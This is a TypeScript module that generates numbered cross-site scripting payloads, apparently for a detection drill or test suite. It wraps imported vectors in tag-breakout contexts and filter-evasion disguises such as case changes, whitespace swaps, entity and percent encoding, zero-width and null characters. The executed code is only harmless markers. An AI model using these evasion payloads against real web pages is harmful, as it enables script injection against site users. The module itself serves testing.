import { vectors } from './vectors.ts'

/** The code that a payload runs. The drill notices each kind in its own way. */
const codes: readonly ((number: number) => string)[] = [
  n => `xss(${n})`,
  n => `xss(${n})`,
  n => `xss\`${n}\``,
  n => `top.xss(${n})`,
  n => `self.xss(${n})`,
  n => `[${n}].map(xss)`,
  n => `fetch('/xss-${n}')`,
  n => `alert(${n})`,
]

/** Where a careless page may put text. */
const contexts: readonly ((text: string) => string)[] = [
  text => text,
  text => `">${text}`,
  text => `Oi ${text} tchau`,
  text => `'>${text}`,
  text => `</textarea>${text}`,
  text => text,
  text => `</title>${text}`,
  text => `</script>${text}`,
  text => `**${text}**`,
  text => `-->${text}`,
  text => `</style>${text}`,
  text => `"'></template>${text}`,
  text => `> ${text}`,
  text => `</noscript>${text}`,
  text => `\u202e${text}\u202c`,
  text => `a\n\n- ${text}`,
  text => `</select>${text}`,
  text => `]]>${text}`,
]

const inTags = (text: string, change: (tag: string) => string): string =>
  text.replaceAll(/<[^<>]*>?/g, whole => change(whole))
const tagNames = (text: string, change: (name: string) => string): string =>
  text.replaceAll(/<\/?[a-z]+/gi, change)

/** Disguises that get past simple filters. */
const disguises: readonly ((text: string) => string)[] = [
  text => text,
  text => tagNames(text, name => name.toUpperCase()),
  text => text,
  text => inTags(text, tag => tag.replaceAll(' ', '\t')),
  text => text,
  text => inTags(text, tag => tag.replaceAll(' ', '\n')),
  text => tagNames(text, name => name.replaceAll(/[a-z](?=[a-z]?$)/gi, last => last.toUpperCase())),
  text => inTags(text, tag => tag.replace(' ', '/')),
  text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text => inTags(text, tag => tag.replaceAll(' ', '\f')),
  text => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  text => inTags(text, tag => tag.replaceAll('(', '&#40;').replaceAll(')', '&#x29;')),
  text => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  text => text.replaceAll('<', '%3C').replaceAll('>', '%3E').replaceAll('"', '%22'),
  text => tagNames(text, name => `${name.slice(0, 3)}\u200b${name.slice(3)}`),
  text => text.replace('<', '<\0'),
]

const at = <T>(all: readonly T[], index: number): T => all[index % all.length] as T

/** Numbers begin at 1. The same number is always the same payload, and no two are alike. */
export function payload(number: number): string {
  const round = Math.floor((number - 1) / vectors.length)
  const code = at(codes, number + round)(number)
  const vector = at(vectors, number - 1)
    .replaceAll('X', () => code)
    .replaceAll('N', String(number))
  // The first round has every vector as it is written.
  if (round === 0) return vector
  return at(disguises, number + round)(at(contexts, number * 5 + round)(vector))
}

export const listPayloads = (count: number): string[] =>
  Array.from({ length: count }, (_, index) => payload(index + 1))
